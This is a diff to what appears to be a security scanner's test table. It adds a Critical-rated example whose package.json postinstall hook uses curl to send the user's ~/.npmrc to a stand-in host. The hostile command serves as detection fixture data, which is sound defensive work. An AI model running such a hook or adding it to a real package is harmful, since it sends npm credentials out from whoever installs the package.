@@ -30,6 +30,14 @@ request.end(text);"#,
             ],
         },
         Example {
+            name: "a hook posts the npm configuration",
+            severity: Some(Severity::Critical),
+            files: &[(
+                "package.json",
+                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -d @$HOME/.npmrc https://collect.invalid/"}}"#,
+            )],
+        },
+        Example {
             name: "a client sends its own vendor's key to the vendor",
             severity: Some(Severity::Low),
             files: &[
